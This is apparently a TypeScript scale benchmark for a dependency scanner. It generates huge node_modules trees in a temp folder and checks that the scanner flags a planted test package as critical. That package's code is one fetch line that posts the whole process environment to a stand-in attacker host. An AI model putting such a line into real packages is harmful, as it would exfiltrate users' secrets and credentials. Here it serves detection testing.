// Scale runs (issue 17), run by hand and recorded in BENCHMARKS.md, not part of `npm test`:
//   node dist/bench/scale.js [files|packages|all] [--keep]
// - files: one package of 200,000 small .js files plus one package that steals the environment;
// - packages: a 20,000-package tree (19,000 at the top, 1,000 nested one level), same stealer.
// Each tree is generated in a temp folder and scanned with the real CLI (--no-cache, --json):
// the run must exit 1 under --fail-on critical, list every package, and find the stealer critical.
// Wall time, peak RSS and CPU come from bench/rss-hook.ts; the tree stage (arborist loadActual)
// is timed on its own through ENV_AUDIT_TIMINGS.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const CLI = path.resolve(HERE, '..', '..', 'bin', 'env-audit.js');
const RSS_HOOK = pathToFileURL(path.join(HERE, 'rss-hook.js')).href;
const STEALER = "fetch('https://collect.evil.example/', { method: 'POST', body: JSON.stringify(process.env) });\n";

function writePackage(dir: string, name: string, files: Record<string, string>): void {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', main: 'index.js' }));
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
}

function manyFilesTree(root: string, files: number): number {
  const deps = { many: '1.0.0', stealer: '1.0.0' };
  fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: deps }));
  const many = path.join(root, 'node_modules', 'many');
  writePackage(many, 'many', { 'index.js': "module.exports = process.env.NODE_ENV;\n" });
  for (let i = 0; i < files; i++) {
    const dir = path.join(many, `d${Math.floor(i / 1000)}`);
    if (i % 1000 === 0) fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, `f${i % 1000}.js`), `exports.v${i} = ${i};\n`);
  }
  writePackage(path.join(root, 'node_modules', 'stealer'), 'stealer', { 'index.js': STEALER });
  return 2;
}

function manyPackagesTree(root: string, packages: number): number {
  const deps: Record<string, string> = { stealer: '1.0.0' };
  const nested = Math.floor(packages / 20);
  for (let i = 0; i < packages - nested; i++) {
    const name = `pkg-${i}`;
    deps[name] = '1.0.0';
    writePackage(path.join(root, 'node_modules', name), name, { 'index.js': `module.exports = ${i} + (process.env.DEBUG ? 1 : 0);\n` });
  }
  // a nested copy under some of them, as npm does when versions conflict
  for (let i = 0; i < nested; i++) {
    writePackage(path.join(root, 'node_modules', `pkg-${i}`, 'node_modules', `dep-${i}`), `dep-${i}`, { 'index.js': `module.exports = ${i};\n` });
  }
  writePackage(path.join(root, 'node_modules', 'stealer'), 'stealer', { 'index.js': STEALER });
  fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: deps }));
  return packages + 1;
}

function scan(root: string, expectedPackages: number): Record<string, unknown> {
  const out = path.join(path.dirname(root), 'report.json');
  const rss = path.join(path.dirname(root), 'rss.json');
  const started = Date.now();
  const r = spawnSync(process.execPath, ['--import', RSS_HOOK, CLI, 'scan', root, '--no-cache', '--fail-on', 'critical', '--quiet', `--json=${out}`], {
    env: { ...process.env, ENV_AUDIT_BENCH_RSS_FILE: rss, ENV_AUDIT_TIMINGS: '1' },
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  });
  const wallMs = Date.now() - started;
  const report = JSON.parse(fs.readFileSync(out, 'utf8')) as { summary: { packages: number; files: number }; packages: { name: string; level: string }[] };
  const timings = JSON.parse(/env-audit timings: (.*)/.exec(r.stderr)?.[1] ?? '{}') as Record<string, number>;
  const usage = JSON.parse(fs.readFileSync(rss, 'utf8')) as { maxRssKb: number; cpuMs: number };
  const ok = r.status === 1 && report.summary.packages === expectedPackages && report.packages.find((p) => p.name === 'stealer')?.level === 'critical';
  return {
    ok, exit: r.status, packages: report.summary.packages, files: report.summary.files, wallMs,
    treeMs: timings.tree, analyseMs: timings.analyse, peakRssMiB: Math.round(usage.maxRssKb / 1024), cpuMs: Math.round(usage.cpuMs),
  };
}

const which = process.argv[2] ?? 'all';
const keep = process.argv.includes('--keep');
const runs: [string, (root: string) => number][] = [];
if (which === 'files' || which === 'all') runs.push(['200,000 files in one package', (root) => manyFilesTree(root, 200_000)]);
if (which === 'packages' || which === 'all') runs.push(['20,000 packages', (root) => manyPackagesTree(root, 20_000)]);
for (const [label, build] of runs) {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'env-audit-scale-'));
  const root = path.join(base, 'app');
  fs.mkdirSync(root);
  try {
    const t = Date.now();
    const expected = build(root);
    const genMs = Date.now() - t;
    const result = scan(root, expected);
    process.stdout.write(`${label}: ${JSON.stringify({ genMs, ...result })}\n`);
    if (!result.ok) process.exitCode = 1;
  } finally {
    if (!keep) fs.rmSync(base, { recursive: true, force: true });
  }
}
